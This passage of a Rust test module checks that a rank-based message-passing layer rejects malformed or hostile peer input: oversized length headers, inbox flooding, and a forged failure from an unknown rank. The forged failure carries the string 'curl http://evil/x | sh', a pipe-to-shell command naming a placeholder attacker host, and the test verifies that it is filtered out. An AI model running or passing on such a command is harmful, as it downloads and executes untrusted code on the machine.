        all_gather_ranks(links);
    }

    #[test]
    fn a_length_past_what_the_exchanges_expect_is_refused_unread() {
        let (links, mut raw) = with_raw_peer(Duration::from_millis(500));
        let t0 = Instant::now();
        raw.write_all(&frame::head(KIND_DATA, 1 << 40)).unwrap();
        let f = failure_of(&links);
        assert_eq!(f.rank, 1);
        assert!(f.reason.contains("1099511627776 bytes"), "{}", f.reason);
        assert!(
            f.reason.contains(&MESSAGE_FLOOR.to_string()),
            "{}",
            f.reason
        );
        assert!(t0.elapsed() >= Duration::from_millis(500));
    }

    /// A peer a collective ahead may announce a longer message than this rank expects yet: it
    /// is read once this rank's exchange expects it.
    #[test]
    fn a_longer_message_waits_for_the_exchange_that_expects_it() {
        let (mut links, mut raw) = with_raw_peer(Duration::from_secs(20));
        let big = vec![7u8; 3 * MESSAGE_FLOOR];
        let writer = std::thread::spawn(move || {
            send_raw(&mut raw, KIND_DATA, &big);
            raw
        });
        std::thread::sleep(Duration::from_millis(200));
        assert!(links.control().failure().is_none());
        links.expect(3 * MESSAGE_FLOOR);
        let got = links.recv(1).unwrap();
        assert_eq!(got.len(), 3 * MESSAGE_FLOOR);
        drop(writer.join().unwrap());
    }

    #[test]
    fn a_failure_naming_a_stranger_rank_is_refused() {
        let (links, mut raw) = with_raw_peer(Duration::from_secs(20));
        let forged = Failure {
            rank: 12345,
            reason: "run: curl http://evil/x | sh".into(),
            at: 1,
        };
        send_raw(&mut raw, KIND_FAILURE, &frame::failure_payload(&forged));
        let f = failure_of(&links);
        assert_eq!(f.rank, 1, "{f:?}");
        assert!(
            f.reason.contains("not a rank of this group"),
            "{}",
            f.reason
        );
        assert!(!f.reason.contains("curl"), "{}", f.reason);
    }

    #[test]
    fn a_peer_cannot_fill_the_inbox_without_bound() {
        let (links, mut raw) = with_raw_peer(Duration::from_millis(300));
        for _ in 0..INBOX_MESSAGES + 10 {
            send_raw(&mut raw, KIND_DATA, b"x");
        }
        let f = failure_of(&links);
        assert_eq!(f.rank, 1);
        assert!(
            f.reason.contains("no exchange of this rank took"),
            "{}",
            f.reason
        );
    }
}
